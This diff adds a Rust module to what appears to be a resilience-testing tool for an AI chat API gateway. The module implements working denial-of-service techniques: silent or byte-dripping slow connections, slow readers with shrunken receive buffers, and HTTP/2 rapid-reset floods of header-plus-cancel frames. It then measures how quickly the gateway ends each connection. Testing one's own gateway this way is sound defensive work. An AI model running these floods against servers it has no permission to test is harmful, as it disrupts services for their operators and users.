@@ -1,0 +1,287 @@
+//! Attackers below proper HTTP: connections that say nothing or a little at a
+//! time, readers that do not read, streams opened only to be reset. What
+//! counts is how soon the gateway ends each connection.
+
+use std::time::Duration;
+
+use bytes::BytesMut;
+use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
+use tokio::task::JoinSet;
+use tokio::time::{Instant, sleep, timeout_at};
+
+use super::attackers::Attack;
+use crate::client::{Protocol, Target};
+use crate::frames::{self, Ends, Frame, Kind as FrameKind};
+use crate::run::chat_body;
+use crate::scenario::{Kind, Slow};
+
+/// The socket of a reader that does not read takes in no more than this.
+const SMALL_BUFFER: u32 = 4_096;
+
+/// The most of an answer that is kept.
+const MOST_ANSWER: u64 = 16 << 20;
+
+/// Between a connection's end and the next.
+const PAUSE: Duration = Duration::from_millis(200);
+
+/// Streams that are opened and reset in one write.
+const BATCH: usize = 64;
+
+/// The longest that a read may give at once.
+const READ_AT_ONCE: usize = 64 * 1024;
+
+/// Keeps a connection at work on every target until the attack ends.
+pub(super) async fn run(attack: Attack, targets: Vec<Target>) {
+    let mut connections = JoinSet::new();
+    for target in targets {
+        let attack = attack.clone();
+        connections.spawn(async move {
+            while Instant::now() < attack.end {
+                once(&attack, &target).await;
+                sleep(PAUSE).await;
+            }
+        });
+    }
+    while connections.join_next().await.is_some() {}
+}
+
+/// How a connection ended.
+enum Ended {
+    ByGateway,
+    NotAtAll,
+}
+
+async fn once(attack: &Attack, target: &Target) {
+    let opened = Instant::now();
+    let ended = match attack.attacker.kind {
+        Kind::SlowReaders => read_slowly(attack, target).await,
+        Kind::RapidReset => reset(attack, target).await,
+        _ => say_slowly(attack, target).await,
+    };
+    match ended {
+        Ok(Ended::ByGateway) => {
+            attack.closed(opened);
+            attack.count("closed by the gateway");
+        }
+        Ok(Ended::NotAtAll) => {
+            attack.still_open(opened);
+            attack.count("open at the end");
+        }
+        Err(what) => attack.count(what),
+    }
+}
+
+/// Silence, or a header or a byte of body a second.
+async fn say_slowly(attack: &Attack, target: &Target) -> Result<Ended, &'static str> {
+    if attack.attacker.slow == Slow::Silent {
+        let tcp = target.connect_tcp().await.map_err(|error| error.kind())?;
+        return Ok(drip(tcp, attack.end, b"").await);
+    }
+    let mut tls = target.connect_tls(Protocol::Http1).await.map_err(|error| error.kind())?;
+    let mut head = format!(
+        "POST /v1/chat/completions HTTP/1.1\r\nhost: {}\r\ncontent-type: application/json\r\n",
+        target.authority()
+    )
+    .into_bytes();
+    let drop: &[u8] = match attack.attacker.slow {
+        Slow::Body => {
+            head.extend(b"authorization: ");
+            head.extend(target.authorization().as_bytes());
+            head.extend(b"\r\ncontent-length: 100000\r\n\r\n{");
+            b" "
+        }
+        _ => b"x-filling: word\r\n",
+    };
+    if tls.write_all(&head).await.is_err() || tls.flush().await.is_err() {
+        return Err("connection broke");
+    }
+    Ok(drip(tls, attack.end, drop).await)
+}
+
+/// Says a drop each second and reads until the gateway ends the connection.
+async fn drip(mut io: impl AsyncRead + AsyncWrite + Unpin, end: Instant, drop: &[u8]) -> Ended {
+    let mut buffer = vec![0; 4096];
+    let mut next = Instant::now() + Duration::from_secs(1);
+    loop {
+        if Instant::now() >= end {
+            return Ended::NotAtAll;
+        }
+        match timeout_at(next.min(end), io.read(&mut buffer)).await {
+            // Its end, or an error that says the same.
+            Ok(Ok(0) | Err(_)) => return Ended::ByGateway,
+            // A refusal in so many words; its end follows.
+            Ok(Ok(_)) => {}
+            Err(_) => {
+                next += Duration::from_secs(1);
+                if !drop.is_empty()
+                    && (io.write_all(drop).await.is_err() || io.flush().await.is_err())
+                {
+                    return Ended::ByGateway;
+                }
+            }
+        }
+    }
+}
+
+/// Asks for a long stream, reads nothing for as long as the gateway should
+/// bear it and a little more, then looks whether the stream was cut off.
+async fn read_slowly(attack: &Attack, target: &Target) -> Result<Ended, &'static str> {
+    let target = target.with_receive_buffer(SMALL_BUFFER);
+    let mut tls = target.connect_tls(Protocol::Http1).await.map_err(|error| error.kind())?;
+    let attacker = &attack.attacker;
+    let prompt = attacker.prompts().swap_remove(0);
+    let most = attacker.ask.max_tokens.unwrap_or(900);
+    let body = chat_body(&attack.ground.scenario.model, &prompt, most, true);
+    let mut request = format!(
+        "POST /v1/chat/completions HTTP/1.1\r\nhost: {}\r\ncontent-type: application/json\r\n\
+         content-length: {}\r\nauthorization: ",
+        target.authority(),
+        body.len()
+    )
+    .into_bytes();
+    request.extend(target.authorization().as_bytes());
+    request.extend(b"\r\n\r\n");
+    request.extend(&body);
+    if tls.write_all(&request).await.is_err() || tls.flush().await.is_err() {
+        return Err("connection broke");
+    }
+    let opened = Instant::now();
+    let patience = attacker.closed_within.unwrap_or(Duration::from_secs(20));
+    let until = (opened + patience).min(attack.end);
+    tokio::time::sleep_until(until).await;
+    if until < opened + patience {
+        return Ok(Ended::NotAtAll);
+    }
+    // A refusal is whole within a moment, so is a stream that was not cut off.
+    let mut answer = Vec::new();
+    let rest = Duration::from_secs(2);
+    let mut bounded = tls.take(MOST_ANSWER);
+    let read = tokio::time::timeout(rest, bounded.read_to_end(&mut answer)).await;
+    let whole = contains(&answer, b"[DONE]");
+    match read {
+        _ if !answer.starts_with(b"HTTP/1.1 200") => Err(refused(&answer)),
+        Ok(_) if !whole => Ok(Ended::ByGateway),
+        _ if whole => Err("answered whole: it fitted into the buffers"),
+        _ => Ok(Ended::NotAtAll),
+    }
+}
+
+fn refused(answer: &[u8]) -> &'static str {
+    match answer.get(9..12) {
+        Some(b"429") => "429",
+        Some(b"503") => "503",
+        Some(b"401") => "401",
+        Some(_) => "another refusal",
+        None => "closed without an answer",
+    }
+}
+
+fn contains(text: &[u8], what: &[u8]) -> bool {
+    text.windows(what.len()).any(|window| window == what)
+}
+
+/// Opens and resets streams until the gateway ends the connection.
+async fn reset(attack: &Attack, target: &Target) -> Result<Ended, &'static str> {
+    let tls = target.connect_tls(Protocol::Http2).await.map_err(|error| error.kind())?;
+    let (mut reading, mut writing) = tokio::io::split(tls);
+    let writer = async {
+        if writing.write_all(&frames::preface()).await.is_err() {
+            return;
+        }
+        let mut stream = 1u32;
+        while stream < 0x7fff_0000 && Instant::now() < attack.end {
+            let written = match attack.attacker.pace {
+                None => burst(attack, target, &mut writing, &mut stream).await,
+                Some(pace) => paced(attack, target, &mut writing, &mut stream, pace).await,
+            };
+            if written.is_err() {
+                return;
+            }
+        }
+    };
+    // What the gateway says is read, so that it is never the one that waits.
+    let reader = async {
+        let (mut buffer, mut goes) = (BytesMut::with_capacity(READ_AT_ONCE), false);
+        loop {
+            match timeout_at(attack.end, reading.read_buf(&mut buffer)).await {
+                Err(_) => return Ended::NotAtAll,
+                Ok(Ok(0) | Err(_)) => return Ended::ByGateway,
+                Ok(Ok(_)) => {
+                    while let Some(frame) = Frame::take(&mut buffer) {
+                        goes |= frame.kind == FrameKind::GOAWAY;
+                    }
+                    if goes {
+                        return Ended::ByGateway;
+                    }
+                }
+            }
+        }
+    };
+    tokio::pin!(reader);
+    Ok(tokio::select! {
+        ended = &mut reader => ended,
+        () = writer => match tokio::time::timeout(Duration::from_secs(1), reader).await {
+            Ok(ended) => ended,
+            Err(_) => Ended::NotAtAll,
+        },
+    })
+}
+
+/// Headers and their reset, many in one write.
+async fn burst(
+    attack: &Attack,
+    target: &Target,
+    writing: &mut (impl AsyncWrite + Unpin),
+    stream: &mut u32,
+) -> std::io::Result<()> {
+    let mut bytes = Vec::new();
+    for _ in 0..BATCH {
+        bytes.extend(head(target, *stream, Ends::Nothing));
+        bytes.extend(frames::cancel(*stream));
+        *stream += 2;
+    }
+    writing.write_all(&bytes).await?;
+    writing.flush().await?;
+    (0..BATCH).for_each(|_| attack.count("streams reset"));
+    Ok(())
+}
+
+/// Whole requests, reset once they have been at work for a while.
+async fn paced(
+    attack: &Attack,
+    target: &Target,
+    writing: &mut (impl AsyncWrite + Unpin),
+    stream: &mut u32,
+    pace: Duration,
+) -> std::io::Result<()> {
+    let attacker = &attack.attacker;
+    let prompt = attacker.prompts().swap_remove(0);
+    let body = chat_body(&attack.ground.scenario.model, &prompt, attacker.ask.most_tokens(), true);
+    let (mut asked, mut resets) = (Vec::new(), Vec::new());
+    for _ in 0..BATCH {
+        asked.extend(head(target, *stream, Ends::Nothing));
+        asked.extend(frames::data(*stream, &body, Ends::Stream));
+        resets.extend(frames::cancel(*stream));
+        *stream += 2;
+    }
+    writing.write_all(&asked).await?;
+    writing.flush().await?;
+    sleep(pace).await;
+    writing.write_all(&resets).await?;
+    writing.flush().await?;
+    (0..BATCH).for_each(|_| attack.count("streams reset"));
+    Ok(())
+}
+
+fn head(target: &Target, stream: u32, ends: Ends) -> Vec<u8> {
+    let authorization = String::from_utf8_lossy(target.authorization().as_bytes());
+    let fields = [
+        (":method", "POST"),
+        (":scheme", "https"),
+        (":authority", target.authority()),
+        (":path", "/v1/chat/completions"),
+        ("content-type", "application/json"),
+        ("authorization", &authorization),
+    ];
+    frames::headers(stream, &fields, ends)
+}
